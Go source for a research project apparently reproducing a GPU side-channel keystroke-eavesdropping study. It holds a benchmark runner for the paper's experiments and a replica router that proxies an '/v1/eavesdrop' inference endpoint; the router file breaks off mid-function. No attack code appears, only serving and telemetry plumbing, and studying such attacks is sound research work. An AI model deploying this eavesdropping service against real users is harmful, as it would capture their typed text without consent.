//	benchpaper -full               # paper-scale trial counts (slow)
//	benchpaper -run fig17          # a single experiment
//	benchpaper -workers 8          # fan experiments and trials across 8 workers
//	benchpaper -json > bench.json  # machine-readable report
//	benchpaper -json -baseline prev.json   # also compute speedup vs prev
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"runtime"
	"sort"
	"time"

	"gpuleak/internal/exp"
	"gpuleak/internal/obs"
	"gpuleak/internal/parallel"
)

// report is the -json output. The schema field lets trajectory tooling
// reject incompatible files instead of misreading them.
type report struct {
	Schema      string             `json:"schema"`
	GoVersion   string             `json:"go_version"`
	GOMAXPROCS  int                `json:"gomaxprocs"`
	Workers     int                `json:"workers"`
	Quick       bool               `json:"quick"`
	Seed        int64              `json:"seed"`
	WallSeconds float64            `json:"wall_seconds"`
	Speedup     float64            `json:"speedup_vs_baseline,omitempty"`
	Failures    int                `json:"failures"`
	Experiments []experimentReport `json:"experiments"`
	// Telemetry is the metrics-registry snapshot of the run (engine.*,
	// parallel.*, kgsl.*, sampler.*), present when -telemetry is given.
	Telemetry map[string]float64 `json:"telemetry,omitempty"`
}

type experimentReport struct {
	ID      string             `json:"id"`
	Paper   string             `json:"paper"`
	Seconds float64            `json:"seconds"`
	Error   string             `json:"error,omitempty"`
	Metrics map[string]float64 `json:"metrics,omitempty"`
}

func main() {
	log.SetFlags(0)
	log.SetPrefix("benchpaper: ")

	full := flag.Bool("full", false, "paper-scale trial counts (slow)")
	run := flag.String("run", "", "run a single experiment by ID (e.g. fig17, table2)")
	seed := flag.Int64("seed", 20260705, "experiment seed")
	listOnly := flag.Bool("list", false, "list experiment IDs and exit")
	metrics := flag.Bool("metrics", false, "also print raw metrics")
	markdown := flag.Bool("md", false, "emit GitHub-flavored markdown tables")
	workers := flag.Int("workers", 0, "worker pool size (1 = serial, 0 = one per CPU); results are identical at any value")
	jsonOut := flag.Bool("json", false, "emit a machine-readable JSON report on stdout instead of tables")
	baseline := flag.String("baseline", "", "previous -json report to compute speedup_vs_baseline against")
	var obsFlags obs.Flags
	obsFlags.Register(flag.CommandLine)
	flag.Parse()

	stopProfiles, err := obsFlags.StartProfiles()
	if err != nil {
		log.Fatal(err)
	}
	tracer := obsFlags.Tracer()
	if tracer != nil {
		parallel.ObserveWith(tracer.Metrics())
	}

	if *listOnly {
		for _, e := range exp.All {
			fmt.Printf("%-22s %s\n", e.ID, e.Paper)
		}
		return
	}

	opts := exp.Options{Quick: !*full, Seed: *seed, Workers: *workers}
	todo := exp.All
	if *run != "" {
		e, ok := exp.ByID(*run)
		if !ok {
			log.Fatalf("unknown experiment %q (use -list)", *run)
		}
		todo = []exp.Experiment{e}
	}

	// Experiments are independent, so the suite itself fans out across the
	// pool on top of each experiment's internal parallelism; results are
	// collected into index-addressed slots and printed in registry order,
	// so the output is identical at any worker count.
	// Per-experiment telemetry tracks are created in registry order before
	// the fan-out so the merged stream is scheduling-independent.
	var expTracers []*obs.Tracer
	if tracer != nil {
		expTracers = make([]*obs.Tracer, len(todo))
		for i := range expTracers {
			expTracers[i] = tracer.Child("exp/" + todo[i].ID)
		}
	}

	wallStart := time.Now()
	results := make([]*exp.Result, len(todo))
	reports := make([]experimentReport, len(todo))
	parallel.ForEach(*workers, len(todo), func(i int) error {
		start := time.Now()
		o := opts
		if expTracers != nil {
			o.Obs = expTracers[i]
		}
		r, err := todo[i].Run(o)
		reports[i] = experimentReport{ID: todo[i].ID, Paper: todo[i].Paper, Seconds: time.Since(start).Seconds()}
		if err != nil {
			reports[i].Error = err.Error()
			return nil
		}
		results[i] = r
		reports[i].Metrics = r.Metrics
		return nil
	})
	wall := time.Since(wallStart).Seconds()

	failures := 0
	for i := range reports {
		if reports[i].Error != "" {
			failures++
			if !*jsonOut {
				log.Printf("%s FAILED: %v", reports[i].ID, reports[i].Error)
			}
		}
	}

	if *jsonOut {
		rep := report{
			Schema:      "gpuleak-bench/v1",
			GoVersion:   runtime.Version(),
			GOMAXPROCS:  runtime.GOMAXPROCS(0),
			Workers:     *workers,
			Quick:       !*full,
			Seed:        *seed,
			WallSeconds: wall,
			Failures:    failures,
			Experiments: reports,
			Telemetry:   tracer.Metrics().Snapshot(),
		}
		if *baseline != "" {
			if prev, err := readBaseline(*baseline); err != nil {
				log.Printf("baseline %s: %v", *baseline, err)
			} else if wall > 0 {
				rep.Speedup = prev.WallSeconds / wall
			}
		}
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(rep); err != nil {
			log.Fatal(err)
		}
		finish(&obsFlags, tracer, stopProfiles, *jsonOut)
		if failures > 0 {
			os.Exit(1)
		}
		return
	}

	for i, e := range todo {
		r := results[i]
		if r == nil {
			continue
		}
		if *markdown {
			fmt.Printf("\n%s", r.Table.Markdown())
			fmt.Printf("\n*Paper: %s.*\n", e.Paper)
		} else {
			fmt.Printf("\n%s", r.Table.String())
			fmt.Printf("[paper: %s]  (%.1fs)\n", e.Paper, reports[i].Seconds)
		}
		if *metrics {
			keys := make([]string, 0, len(r.Metrics))
			for k := range r.Metrics {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			for _, k := range keys {
				fmt.Printf("  metric %-32s %.4f\n", k, r.Metrics[k])
			}
		}
	}
	finish(&obsFlags, tracer, stopProfiles, *jsonOut)
	if failures > 0 {
		os.Exit(1)
	}
}

// finish writes the telemetry stream and profile dumps before exit.
func finish(fl *obs.Flags, tracer *obs.Tracer, stopProfiles func() error, quiet bool) {
	if tracer != nil {
		if err := fl.Write(tracer); err != nil {
			log.Fatalf("writing telemetry: %v", err)
		}
		if !quiet {
			log.Printf("wrote telemetry to %s (%d events)", fl.Path, tracer.Len())
		}
	}
	if err := stopProfiles(); err != nil {
		log.Fatalf("writing profiles: %v", err)
	}
}

func readBaseline(path string) (*report, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var rep report
	if err := json.Unmarshal(b, &rep); err != nil {
		return nil, err
	}
	if rep.Schema != "gpuleak-bench/v1" {
		return nil, fmt.Errorf("unsupported schema %q", rep.Schema)
	}
	return &rep, nil
}
