// Command benchpaper regenerates every table and figure of the paper's
// evaluation on the simulated stack and prints the results as tables —
// the data behind EXPERIMENTS.md.
//
// Usage:
//
//	benchpaper                # every experiment, quick scale
//	benchpaper -full          # paper-scale trial counts (slow)
//	benchpaper -run fig17     # a single experiment
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"sort"
	"time"

	"gpuleak/internal/exp"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("benchpaper: ")

	full := flag.Bool("full", false, "paper-scale trial counts (slow)")
	run := flag.String("run", "", "run a single experiment by ID (e.g. fig17, table2)")
	seed := flag.Int64("seed", 20260705, "experiment seed")
	listOnly := flag.Bool("list", false, "list experiment IDs and exit")
	metrics := flag.Bool("metrics", false, "also print raw metrics")
	markdown := flag.Bool("md", false, "emit GitHub-flavored markdown tables")
	flag.Parse()

	if *listOnly {
		for _, e := range exp.All {
			fmt.Printf("%-22s %s\n", e.ID, e.Paper)
		}
		return
	}

	opts := exp.Options{Quick: !*full, Seed: *seed}
	todo := exp.All
	if *run != "" {
		e, ok := exp.ByID(*run)
		if !ok {
			log.Fatalf("unknown experiment %q (use -list)", *run)
		}
		todo = []exp.Experiment{e}
	}

	failures := 0
	for _, e := range todo {
		start := time.Now()
		r, err := e.Run(opts)
		if err != nil {
			log.Printf("%s FAILED: %v", e.ID, err)
			failures++
			continue
		}
		if *markdown {
			fmt.Printf("\n%s", r.Table.Markdown())
			fmt.Printf("\n*Paper: %s.*\n", e.Paper)
		} else {
			fmt.Printf("\n%s", r.Table.String())
			fmt.Printf("[paper: %s]  (%.1fs)\n", e.Paper, time.Since(start).Seconds())
		}
		if *metrics {
			keys := make([]string, 0, len(r.Metrics))
			for k := range r.Metrics {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			for _, k := range keys {
				fmt.Printf("  metric %-32s %.4f\n", k, r.Metrics[k])
			}
		}
	}
	if failures > 0 {
		os.Exit(1)
	}
}
