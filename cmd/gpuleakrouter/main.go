// Command gpuleakrouter fronts a fleet of gpuleakd replicas with a
// consistent-hash router: every request is routed by its model identity
// (the registry key its configuration trains), so each trained classifier
// lives on exactly one replica and the fleet's aggregate model cache
// scales with replica count instead of duplicating the working set.
//
// Membership is health-checked: a probe loop polls every replica's
// /healthz, evicts replicas past the failure threshold, readmits them
// when they recover, and treats a "draining" reply as a deliberate
// departure (the replica leaves the ring immediately but its in-flight
// streams are left alone). When the ring changes, warm model replication
// kicks in: routing keys the router has seen are re-resolved, and keys
// whose owner moved get a /v1/train fired at the new owner so the handoff
// is warm by the time real traffic follows.
//
// Streaming sessions (POST /v1/sessions + GET /v1/sessions/{id}/stream)
// survive replica loss mid-stream: replicas are deterministic — the same
// session body yields the same verdict frame sequence anywhere — so the
// router replays the session on the next owner, skips the frames the
// client already holds (byte-identical by the determinism contract), and
// splices the tail. The client sees a ": failover" SSE comment and an
// unbroken frame sequence.
//
// Endpoints mirror gpuleakd's, plus GET /healthz reports fleet state in
// the gpuleak-router/v1 schema. SIGINT/SIGTERM drains: new requests get
// 503, in-flight proxies and streams finish, then the process exits 0.
package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"os/signal"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"gpuleak/internal/obs"
	"gpuleak/internal/ring"
	"gpuleak/internal/serve"
)

// routerSchema identifies the router's own /healthz wire format.
const routerSchema = "gpuleak-router/v1"

// backendHeader names the response header reporting which replica served
// (or will serve) a routed request — observability for clients and the
// hook the fleet smoke test uses to find the replica to kill.
const backendHeader = "X-Gpuleak-Backend"

// Metric-name vocabulary of the router (declared constants, matching the
// call-site discipline gpuvet enforces on the internal packages).
const (
	mReshards          = "router.reshards"
	mWarmTrains        = "router.warm_trains"
	mErrors            = "router.errors"
	mEvictions         = "router.evictions"
	mProxied           = "router.proxied"
	mFrames            = "router.frames"
	mSessionsCreated   = "router.sessions.created"
	mSessionsFailovers = "router.sessions.failovers"
	mSessionsStreamed  = "router.sessions.streamed"

	mReqEavesdrop  = "router.requests.eavesdrop"
	mReqTrain      = "router.requests.train"
	mReqExperiment = "router.requests.experiment"
	mReqSession    = "router.requests.session"
	mReqStream     = "router.requests.stream"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("gpuleakrouter: ")

	addr := flag.String("addr", "127.0.0.1:8090", "listen address (port 0 = ephemeral)")
	addrFile := flag.String("addr-file", "", "write the bound host:port to this file once listening")
	backends := flag.String("backends", "", "comma-separated gpuleakd base URLs (required)")
	probe := flag.Duration("probe", 500*time.Millisecond, "health-probe interval")
	downAfter := flag.Int("down-after", 2, "consecutive failed probes before a replica leaves the ring")
	upAfter := flag.Int("up-after", 1, "consecutive healthy probes before a replica (re)joins")
	failovers := flag.Int("failovers", 2, "max alternate replicas tried per request/stream")
	drainTimeout := flag.Duration("drain-timeout", 30*time.Second, "graceful-shutdown drain bound")
	flag.Parse()

	var urls []string
	for _, b := range strings.Split(*backends, ",") {
		if b = strings.TrimSpace(b); b != "" {
			urls = append(urls, strings.TrimRight(b, "/"))
		}
	}
	if len(urls) == 0 {
		log.Fatal("no -backends given")
	}

	rt := newRouter(urls, *downAfter, *upAfter, *failovers)
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	go rt.probeLoop(ctx, *probe)

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		log.Fatal(err)
	}
	if *addrFile != "" {
		if err := os.WriteFile(*addrFile, []byte(ln.Addr().String()+"\n"), 0o644); err != nil {
			log.Fatal(err)
		}
	}
	httpSrv := &http.Server{Handler: rt.handler()}

	drained := make(chan struct{})
	go func() {
		defer close(drained)
		<-ctx.Done()
		log.Printf("shutdown: draining in-flight requests (bound %v)", *drainTimeout)
		dctx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
		defer cancel()
		if err := rt.drain(dctx); err != nil {
			log.Printf("shutdown: %v", err)
		}
		if err := httpSrv.Shutdown(dctx); err != nil {
			log.Printf("shutdown: http: %v", err)
		}
	}()

	log.Printf("listening on http://%s, routing %d backends: %s",
		ln.Addr(), len(urls), strings.Join(urls, ", "))
	if err := httpSrv.Serve(ln); err != nil && err != http.ErrServerClosed {
		log.Fatal(err)
	}
	<-drained
	log.Printf("drained cleanly")
}

// router is the fleet front-end: health-checked membership, the warmth
// tracker driving model re-replication, and the session replay table.
type router struct {
	ms        *ring.Membership
	client    *http.Client
	m         *obs.Metrics
	failovers int

	mu       sync.Mutex
	inflight int
	draining bool
	idle     chan struct{}
	nextSess uint64
	sessions map[string]*routedSession
	warm     map[string]*warmEntry
}

// routedSession is the router-side replay state of one streaming
// session: the original body (enough to re-create the session on any
// replica) and how many verdict frames the client already holds.
type routedSession struct {
	id      string
	body    []byte
	key     string
	state   int // 0 created, 1 streaming, 2 done
	relayed int // backend frames relayed (backend SSE ids 2..relayed+1)
	// traceparent is the session's trace context, minted (or accepted)
	// at create time and re-sent to every replica the stream attaches
	// to — the failover replay keeps the original trace id.
	traceparent string
}

// warmEntry remembers a routing key the fleet has served and which
// replica currently owns it, so ring changes can re-train the model on
// the new owner before traffic arrives cold.
type warmEntry struct {
	device, app, keyboard string
	owner                 string
}

func newRouter(urls []string, downAfter, upAfter, failovers int) *router {
	rt := &router{
		ms:        ring.NewMembership(0, downAfter, upAfter),
		client:    &http.Client{}, // no global timeout: streams are long-lived
		m:         obs.NewMetrics(),
		failovers: failovers,
		idle:      make(chan struct{}),
		sessions:  map[string]*routedSession{},
		warm:      map[string]*warmEntry{},
	}
	for _, u := range urls {
		rt.ms.Add(u)
	}
	return rt
}

func (rt *router) handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/eavesdrop", rt.handleEavesdrop)
	mux.HandleFunc("POST /v1/train", rt.handleTrain)
	mux.HandleFunc("POST /v1/experiment", rt.handleExperiment)
	mux.HandleFunc("POST /v1/sessions", rt.handleSessionCreate)
	mux.HandleFunc("GET /v1/sessions/{id}/stream", rt.handleSessionStream)
	mux.HandleFunc("GET /healthz", rt.handleHealthz)
	mux.HandleFunc("GET /metrics", rt.handleMetrics)
	return mux
}

// begin/end/drain mirror gpuleakd's in-flight accounting so SIGTERM can
// wait for the streams the router is relaying.
func (rt *router) begin() bool {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	if rt.draining {
		return false
	}
	rt.inflight++
	return true
}

func (rt *router) end() {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	rt.inflight--
	if rt.draining && rt.inflight == 0 {
		close(rt.idle)
	}
}

func (rt *router) drain(ctx context.Context) error {
	rt.mu.Lock()
	if !rt.draining {
		rt.draining = true
		if rt.inflight == 0 {
			close(rt.idle)
		}
	}
	rt.mu.Unlock()
	select {
	case <-rt.idle:
		return nil
	case <-ctx.Done():
		return fmt.Errorf("drain: %w", ctx.Err())
	}
}

func (rt *router) isDraining() bool {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	return rt.draining
}

// probeLoop polls every backend's /healthz at the probe interval, feeds
// the outcomes into membership, and triggers warm re-replication when
// the ring changes.
func (rt *router) probeLoop(ctx context.Context, interval time.Duration) {
	probeClient := &http.Client{Timeout: interval}
	tick := time.NewTicker(interval)
	defer tick.Stop()
	lastEpoch := uint64(0)
	for {
		for _, st := range rt.ms.All() {
			rt.probeOne(probeClient, st.Name)
		}
		if e := rt.ms.Epoch(); e != lastEpoch {
			lastEpoch = e
			rt.reshard()
		}
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
	}
}

func (rt *router) probeOne(c *http.Client, name string) {
	resp, err := c.Get(name + "/healthz")
	if err != nil {
		rt.ms.ReportFailure(name)
		return
	}
	defer resp.Body.Close()
	var h serve.HealthResponse
	if json.NewDecoder(resp.Body).Decode(&h) == nil && h.Status == "draining" {
		rt.ms.ReportDraining(name)
		return
	}
	if resp.StatusCode == http.StatusOK {
		rt.ms.ReportSuccess(name)
		return
	}
	rt.ms.ReportFailure(name)
}

// reshard re-resolves every warm routing key after a ring change and
// fires a warm-up training at the new owner of each key that moved, so a
// failed-over or re-balanced shard serves its first request from a hot
// cache instead of paying the offline phase inline.
func (rt *router) reshard() {
	type move struct {
		key   string
		to    string
		train serve.TrainRequest
	}
	var moves []move
	rt.mu.Lock()
	for key, w := range rt.warm {
		owner, ok := rt.ms.Owner(key)
		if !ok || owner == w.owner {
			continue
		}
		w.owner = owner
		moves = append(moves, move{key, owner, serve.TrainRequest{
			Device: w.device, App: w.app, Keyboard: w.keyboard,
		}})
	}
	rt.mu.Unlock()
	sort.Slice(moves, func(i, j int) bool { return moves[i].key < moves[j].key })
	for _, mv := range moves {
		rt.m.Add(mReshards, 1)
		log.Printf("reshard: %s -> %s (warm replication)", mv.key, mv.to)
		go func(mv move) {
			body, _ := json.Marshal(mv.train)
			resp, err := rt.client.Post(mv.to+"/v1/train", "application/json", bytes.NewReader(body))
			if err != nil {
				log.Printf("reshard: warm train on %s: %v", mv.to, err)
				return
			}
			io.Copy(io.Discard, resp.Body) //nolint:errcheck // drain for reuse
			resp.Body.Close()
			rt.m.Add(mWarmTrains, 1)
		}(mv)
	}
}

// recordWarm notes that key is served by owner (with the scenario fields
// a warm-up /v1/train needs later).
func (rt *router) recordWarm(key, owner string, req serve.EavesdropRequest) {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	w, ok := rt.warm[key]
	if !ok {
		w = &warmEntry{device: req.Device, app: req.App, keyboard: req.Keyboard}
		rt.warm[key] = w
	}
	w.owner = owner
}

func (rt *router) writeError(w http.ResponseWriter, status int, err error) {
	rt.m.Add(mErrors, 1)
	w.Header().Set("Content-Type", "application/json")
	if status == http.StatusTooManyRequests || status == http.StatusServiceUnavailable {
		w.Header().Set("Retry-After", "1")
	}
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(serve.ErrorResponse{Schema: routerSchema, Error: err.Error(), Status: status}) //nolint:errcheck
}

// owners resolves the candidate replicas for a key: the owner first,
// then failover alternates.
func (rt *router) owners(key string) []string {
	return rt.ms.Owners(key, 1+rt.failovers)
}

// traceparentFor resolves the traceparent a routed request carries
// downstream: an inbound header wins (the client owns the trace),
// otherwise the router mints one from the request seed — the identical
// derivation replicas use, so every hop agrees on the trace id without
// coordination.
func traceparentFor(r *http.Request, seed int64) string {
	if tc, ok := obs.ParseTraceparent(r.Header.Get(serve.TraceparentHeader)); ok {
		return tc.Traceparent()
	}
	return obs.NewTrace(seed).Traceparent()
}

// proxy forwards body to path on the first candidate that accepts the
// connection, evicting candidates whose transport fails. Any HTTP
// response (success or error) is relayed as-is with the serving backend
// named in the response header. A non-empty traceparent rides the
// forwarded request so the replica joins the router's trace instead of
// minting its own.
func (rt *router) proxy(w http.ResponseWriter, path string, body []byte, candidates []string, traceparent string) {
	if len(candidates) == 0 {
		rt.writeError(w, http.StatusServiceUnavailable, errors.New("router: no replica up for key"))
		return
	}
	for _, backend := range candidates {
		req, err := http.NewRequest(http.MethodPost, backend+path, bytes.NewReader(body))
		if err != nil {
			rt.writeError(w, http.StatusInternalServerError, err)
			return
		}
		req.Header.Set("Content-Type", "application/json")
		if traceparent != "" {
			req.Header.Set(serve.TraceparentHeader, traceparent)
		}
		resp, err := rt.client.Do(req)
		if err != nil {
			log.Printf("proxy %s: %s unreachable, evicting: %v", path, backend, err)
			rt.ms.Evict(backend)
			rt.m.Add(mEvictions, 1)
			continue
		}
		defer resp.Body.Close()
		h := w.Header()
		h.Set(backendHeader, backend)
		if ct := resp.Header.Get("Content-Type"); ct != "" {
			h.Set("Content-Type", ct)
		}
		if ra := resp.Header.Get("Retry-After"); ra != "" {
			h.Set("Retry-After", ra)
		}
		if tp := resp.Header.Get(serve.TraceparentHeader); tp != "" {
			h.Set(serve.TraceparentHeader, tp)
		}
		w.WriteHeader(resp.StatusCode)
		io.Copy(w, resp.Body) //nolint:errcheck // client gone: nothing left to report to
		rt.m.Add(mProxied, 1)
		return
	}
	rt.writeError(w, http.StatusServiceUnavailable, errors.New("router: every candidate replica failed"))
}

func (rt *router) handleEavesdrop(w http.ResponseWriter, r *http.Request) {
	if !rt.begin() {
		rt.writeError(w, http.StatusServiceUnavailable, errors.New("router: draining"))
		return
	}
	defer rt.end()
	body, err := io.ReadAll(r.Body)
	if err != nil {
		rt.writeError(w, http.StatusBadRequest, err)
		return
	}
	var req serve.EavesdropRequest
	if err := json.Unmarshal(body, &req); err != nil {
		rt.writeError(w, http.StatusBadRequest, fmt.Errorf("router: decoding body: %w", err))
		return
	}
	key, err := serve.RoutingKey(req)
	if err != nil {
		rt.writeError(w, http.StatusBadRequest, err)
		return
	}
	rt.m.Add(mReqEavesdrop, 1)
	cands := rt.owners(key)
	if len(cands) > 0 {
		rt.recordWarm(key, cands[0], req)
	}
	rt.proxy(w, "/v1/eavesdrop", body, cands, traceparentFor(r, req.Seed))
}

func (rt *router) handleTrain(w http.ResponseWriter, r *http.Request) {
	if !rt.begin() {
		rt.writeError(w, http.StatusServiceUnavailable, errors.New("router: draining"))
		return
	}
	defer rt.end()
	body, err := io.ReadAll(r.Body)
	if err != nil {
		rt.writeError(w, http.StatusBadRequest, err)
		return
	}
	var req serve.TrainRequest
	if err := json.Unmarshal(body, &req); err != nil {
		rt.writeError(w, http.StatusBadRequest, fmt.Errorf("router: decoding body: %w", err))
		return
	}
	// Training routes by the same model identity an eavesdrop for this
	// configuration would, so the warmed replica is the one that serves.
	eq := serve.EavesdropRequest{Device: req.Device, App: req.App, Keyboard: req.Keyboard, Text: "warmup"}
	key, err := serve.RoutingKey(eq)
	if err != nil {
		rt.writeError(w, http.StatusBadRequest, err)
		return
	}
	rt.m.Add(mReqTrain, 1)
	cands := rt.owners(key)
	if len(cands) > 0 {
		rt.recordWarm(key, cands[0], eq)
	}
	// Training has no seed of its own; forward a trace only when the
	// client brought one.
	rt.proxy(w, "/v1/train", body, cands, r.Header.Get(serve.TraceparentHeader))
}

func (rt *router) handleExperiment(w http.ResponseWriter, r *http.Request) {
	if !rt.begin() {
		rt.writeError(w, http.StatusServiceUnavailable, errors.New("router: draining"))
		return
	}
	defer rt.end()
	body, err := io.ReadAll(r.Body)
	if err != nil {
		rt.writeError(w, http.StatusBadRequest, err)
		return
	}
	var req serve.ExperimentRequest
	if err := json.Unmarshal(body, &req); err != nil {
		rt.writeError(w, http.StatusBadRequest, fmt.Errorf("router: decoding body: %w", err))
		return
	}
	rt.m.Add(mReqExperiment, 1)
	rt.proxy(w, "/v1/experiment", body, rt.owners("exp/"+req.ID), r.Header.Get(serve.TraceparentHeader))
}

func (rt *router) handleHealthz(w http.ResponseWriter, r *http.Request) {
	type backendStatus struct {
		Name  string `json:"name"`
		State string `json:"state"`
	}
	var resp struct {
		Schema   string          `json:"schema"`
		Status   string          `json:"status"`
		Up       int             `json:"up"`
		Backends []backendStatus `json:"backends"`
		Sessions int             `json:"sessions"`
	}
	resp.Schema = routerSchema
	resp.Status = "ok"
	for _, st := range rt.ms.All() {
		resp.Backends = append(resp.Backends, backendStatus{Name: st.Name, State: st.State.String()})
		if st.State == ring.StateUp {
			resp.Up++
		}
	}
	rt.mu.Lock()
	resp.Sessions = len(rt.sessions)
	rt.mu.Unlock()
	status := http.StatusOK
	switch {
	case rt.isDraining():
		resp.Status = "draining"
		status = http.StatusServiceUnavailable
	case resp.Up == 0:
		resp.Status = "no backends"
		status = http.StatusServiceUnavailable
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(resp) //nolint:errcheck // client gone mid-scrape
}

// gauges reports the router's point-in-time state alongside the counter
// snapshot: fleet size actually up, sessions awaiting/holding a stream,
// and requests in flight.
func (rt *router) gauges() map[string]float64 {
	up := 0
	for _, st := range rt.ms.All() {
		if st.State == ring.StateUp {
			up++
		}
	}
	rt.mu.Lock()
	defer rt.mu.Unlock()
	return map[string]float64{
		"router.backends_up":       float64(up),
		"router.sessions.resident": float64(len(rt.sessions)),
		"router.inflight":          float64(rt.inflight),
	}
}

func (rt *router) handleMetrics(w http.ResponseWriter, r *http.Request) {
	g := rt.gauges()
	switch r.URL.Query().Get("format") {
	case "", "json":
		snap := rt.m.Snapshot()
		for k, v := range g {
			snap[k] = v
		}
		w.Header().Set("Content-Type", "application/json")
		obs.WriteSnapshotJSON(w, snap) //nolint:errcheck // client gone mid-scrape
	case "prom":
		w.Header().Set("Content-Type", obs.PromContentType)
		rt.m.WriteProm(w, g) //nolint:errcheck // client gone mid-scrape
	default:
		rt.writeError(w, http.StatusBadRequest, fmt.Errorf("router: unknown metrics format %q", r.URL.Query().Get("format")))
	}
}

// handleSessionCreate registers a streaming session with the router (the
// backend session is created lazily at attach, so a failover between
// create and attach costs nothing). The response names the predicted
// serving replica in the backend header.
func (rt *router) handleSessionCreate(w http.ResponseWriter, r *http.Request) {
	if rt.isDraining() {
		rt.writeError(w, http.StatusServiceUnavailable, errors.New("router: draining"))
		return
	}
	body, err := io.ReadAll(r.Body)
	if err != nil {
		rt.writeError(w, http.StatusBadRequest, err)
		return
	}
	var req serve.EavesdropRequest
	if err := json.Unmarshal(body, &req); err != nil {
		rt.writeError(w, http.StatusBadRequest, fmt.Errorf("router: decoding body: %w", err))
		return
	}
	key, err := serve.RoutingKey(req)
	if err != nil {
		rt.writeError(w, http.StatusBadRequest, err)
		return
	}
	rt.mu.Lock()
	rt.nextSess++
	sess := &routedSession{
		id:          fmt.Sprintf("r-%08d", rt.nextSess),
		body:        body,
		key:         key,
		traceparent: traceparentFor(r, req.Seed),
	}
	rt.sessions[sess.id] = sess
	rt.mu.Unlock()
	rt.m.Add(mSessionsCreated, 1)
	rt.m.Add(mReqSession, 1)
	if owner, ok := rt.ms.Owner(key); ok {
		w.Header().Set(backendHeader, owner)
		rt.recordWarm(key, owner, req)
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(http.StatusCreated)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(serve.SessionResponse{ //nolint:errcheck // client gone
		Schema: routerSchema,
		ID:     sess.id,
		Stream: "/v1/sessions/" + sess.id + "/stream",
	})
}

// handleSessionStream relays a session's SSE stream from its owning
// replica, replaying on a fresh replica (and skipping already-delivered
// frames) when the owner dies mid-stream.
func (rt *router) handleSessionStream(w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	rt.mu.Lock()
	sess, ok := rt.sessions[id]
	if ok && sess.state == 0 {
		sess.state = 1
	} else if ok {
		rt.mu.Unlock()
		rt.writeError(w, http.StatusConflict, fmt.Errorf("router: session %q already consumed", id))
		return
	}
	rt.mu.Unlock()
	if !ok {
		rt.writeError(w, http.StatusNotFound, fmt.Errorf("router: session %q not found", id))
		return
	}
	if !rt.begin() {
		rt.writeError(w, http.StatusServiceUnavailable, errors.New("router: draining"))
		return
	}
	defer rt.end()
	defer func() {
		rt.mu.Lock()
		delete(rt.sessions, id)
		rt.mu.Unlock()
	}()
	rt.m.Add(mReqStream, 1)

	flusher, _ := w.(http.Flusher)
	started := false
	attempts := 1 + rt.failovers
	var lastErr error
	for attempt := 0; attempt < attempts; attempt++ {
		owner, ok := rt.ms.Owner(sess.key)
		if !ok {
			lastErr = errors.New("router: no replica up for session")
			break
		}
		if attempt > 0 {
			rt.m.Add(mSessionsFailovers, 1)
			fmt.Fprintf(w, ": failover to %s after %d frames\n\n", owner, sess.relayed)
			if flusher != nil {
				flusher.Flush()
			}
		}
		done, err := rt.relayOnce(r.Context(), w, flusher, sess, owner, &started)
		if done {
			rt.m.Add(mSessionsStreamed, 1)
			return
		}
		lastErr = err
		log.Printf("session %s: replica %s failed mid-stream (%d frames relayed): %v",
			id, owner, sess.relayed, err)
		rt.ms.Evict(owner)
		rt.m.Add(mEvictions, 1)
	}
	if lastErr == nil {
		lastErr = errors.New("router: session relay failed")
	}
	if !started {
		rt.writeError(w, http.StatusServiceUnavailable, lastErr)
		return
	}
	// In-band error frame: the stream already has a 200 status line.
	data, _ := json.Marshal(serve.ErrorResponse{
		Schema: routerSchema, Error: lastErr.Error(), Status: http.StatusServiceUnavailable,
	})
	fmt.Fprintf(w, "event: error\ndata: %s\n\n", data)
	if flusher != nil {
		flusher.Flush()
	}
}

// relayOnce creates the session on owner, attaches its stream, and
// relays frames the client does not hold yet. done is true when the
// stream finished (result or in-band backend error frame delivered);
// otherwise err says why the attempt died and the caller may fail over.
func (rt *router) relayOnce(ctx context.Context, w http.ResponseWriter, flusher http.Flusher, sess *routedSession, owner string, started *bool) (done bool, err error) {
	// Re-create the session on the owner. Deterministic replicas make
	// this replay safe: the new session's frames are byte-identical.
	// The session's traceparent rides every replay, so a failover
	// replica records its spans under the original trace id.
	create, err := http.NewRequest(http.MethodPost, owner+"/v1/sessions", bytes.NewReader(sess.body))
	if err != nil {
		return false, err
	}
	create.Header.Set("Content-Type", "application/json")
	if sess.traceparent != "" {
		create.Header.Set(serve.TraceparentHeader, sess.traceparent)
	}
	resp, err := rt.client.Do(create)
	if err != nil {
		return false, err
	}
	var sr serve.SessionResponse
	decErr := json.NewDecoder(resp.Body).Decode(&sr)
	resp.Body.Close()
	if decErr != nil {
		return false, decErr
	}
	if resp.StatusCode != http.StatusCreated {
		return false, fmt.Errorf("backend session create: status %d", resp.StatusCode)
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodGet, owner+sr.Stream, nil)
	if err != nil {
		return false, err
	}
	stream, err := rt.client.Do(req)
	if err != nil {
		return false, err
	}
	defer stream.Body.Close()
